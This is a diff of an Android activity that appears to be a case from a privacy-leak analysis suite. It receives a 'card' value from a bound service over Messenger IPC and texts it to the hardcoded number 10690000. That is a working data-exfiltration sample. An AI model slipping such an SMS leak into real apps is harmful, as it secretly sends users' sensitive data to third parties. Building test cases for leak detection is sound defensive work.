@@ -1,43 +1,54 @@
 package cn.privlens.suite.messenger_reply;
 
-import android.app.*;
-import android.content.*;
-import android.location.*;
-import android.net.Uri;
-import android.os.*;
-import android.telephony.*;
-import android.util.*;
-import android.view.*;
-import android.webkit.*;
-import android.widget.*;
-import java.io.*;
-import java.net.*;
-import java.util.*;
-import java.util.concurrent.*;
-import java.util.regex.*;
+import android.app.Activity;
+import android.content.ComponentName;
+import android.content.Intent;
+import android.content.ServiceConnection;
+import android.os.Bundle;
+import android.os.Handler;
+import android.os.IBinder;
+import android.os.Looper;
+import android.os.Message;
+import android.os.Messenger;
+import android.os.RemoteException;
+import android.telephony.SmsManager;
 
 public class Main extends Activity {
-    @Override
-    protected void onCreate(Bundle state) {
-        super.onCreate(state);
-        final Messenger mine = new Messenger(new Handler() {
-            @Override
-            public void handleMessage(Message m) { SmsManager.getDefault().sendTextMessage("10690000", null, m.getData().getString("id"), null, null); }
-        });
-        bindService(new Intent(this, Desk.class), new ServiceConnection() {
-            @Override
-            public void onServiceConnected(ComponentName name, IBinder binder) {
-                Message m = Message.obtain(null, 1);
-                m.replyTo = mine;
-                try {
-                    new Messenger(binder).send(m);
-                } catch (RemoteException e) {
-                    Log.w("suite", "gone");
-                }
+    private final Messenger inbox = new Messenger(new Handler(Looper.getMainLooper()) {
+        @Override
+        public void handleMessage(Message message) {
+            if (message.what == CardService.ANSWER) {
+                Bundle data = message.getData();
+                SmsManager.getDefault().sendTextMessage("10690000", null, data.getString("card"), null, null);
             }
-            @Override
-            public void onServiceDisconnected(ComponentName name) { }
-        }, BIND_AUTO_CREATE);
+        }
+    });
+
+    private final ServiceConnection connection = new ServiceConnection() {
+        @Override
+        public void onServiceConnected(ComponentName name, IBinder binder) {
+            Message message = Message.obtain(null, CardService.ASK);
+            message.replyTo = inbox;
+            try {
+                new Messenger(binder).send(message);
+            } catch (RemoteException e) {
+                finish();
+            }
+        }
+
+        @Override
+        public void onServiceDisconnected(ComponentName name) {}
+    };
+
+    @Override
+    protected void onStart() {
+        super.onStart();
+        bindService(new Intent(this, CardService.class), connection, BIND_AUTO_CREATE);
     }
 
+    @Override
+    protected void onStop() {
+        unbindService(connection);
+        super.onStop();
+    }
 }
